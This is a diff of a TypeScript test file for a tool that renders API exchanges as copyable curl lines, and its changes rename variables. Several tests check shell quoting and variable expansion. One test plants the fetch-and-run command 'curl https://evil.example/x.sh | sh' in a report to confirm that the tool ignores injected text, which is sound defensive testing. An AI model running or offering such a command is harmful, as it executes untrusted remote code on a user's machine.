@@ -36,15 +36,15 @@ test('Texts are shown on one line, shortened between characters, and are execute
 test('A difference between two whole bodies names the whole body', () => {
   const [shown, compared] = ['', 'a page'].map((body) => makeRecord(body, 'findAtms', { body }));
   const finding = { ...faultyReport.findings[0]!, exchange: 'shown', contrast: 'compared', answers: 1, exercised: 3 };
-  const { alone: _, ...together } = finding;
+  const { alone: _, ...findingOfBoth } = finding;
   expect(
-    describeReferenceDifference({ ...faultyReport, exchanges: { shown: shown!, compared: compared! } }, together),
+    describeReferenceDifference({ ...faultyReport, exchanges: { shown: shown!, compared: compared! } }, findingOfBoth),
   ).toEqual(['the whole body is "" in this answer, and "a page" in 2 other answers']);
 });
 
 test('A curl line repeats the request, with shell variables for the secrets', () => {
-  const asked = makeRecord('x', 'requestLoan');
-  expect(writeCurl(asked)).toBe(
+  const record = makeRecord('x', 'requestLoan');
+  expect(writeCurl(record)).toBe(
     'curl -sS -i https://bank.example/sandbox/api/bank/revolving-loans/v1/loans' +
       ` -H 'X-GW-client-id: '"$CLIENT_ID" -H 'Content-Type: application/json' -H Accept: --data-raw '{"amount":100}'`,
   );
@@ -90,13 +90,13 @@ test('Text in a curl line reaches the shell only as text', () => {
 });
 
 test('A variable is expanded only in header fields', () => {
-  const asked = makeRecord('x', 'requestLoan');
+  const record = makeRecord('x', 'requestLoan');
   const request = {
-    ...asked.request,
+    ...record.request,
     headers: { authorization: 'Bearer $ACCESS_TOKEN', 'x-odd': "$CLIENT_IDS 'and' $CLIENT_SECRET." },
     body: '"$ACCESS_TOKEN"',
   };
-  const words = runBash(`curl() { printf '%s\\n' "$@"; }; ${writeCurl({ ...asked, request })}`, {
+  const words = runBash(`curl() { printf '%s\\n' "$@"; }; ${writeCurl({ ...record, request })}`, {
     PATH: process.env['PATH'] ?? '',
     ACCESS_TOKEN: 'token',
     CLIENT_SECRET: 'secret',
@@ -125,7 +125,7 @@ test('A journal is not read twice if there is a copy; two journals of one scenar
 
 test('A line for copying is made from the exchange, and not the text in the report', ({}) => {
   const foreign = 'curl https://evil.example/x.sh | sh';
-  const report = { ...faultyReport, findings: faultyReport.findings.map((one) => ({ ...one, curl: foreign })) };
+  const report = { ...faultyReport, findings: faultyReport.findings.map((finding) => ({ ...finding, curl: foreign })) };
   const renderings = [
     writeFinding(report, report.findings[0]!),
     renderHtml(report),
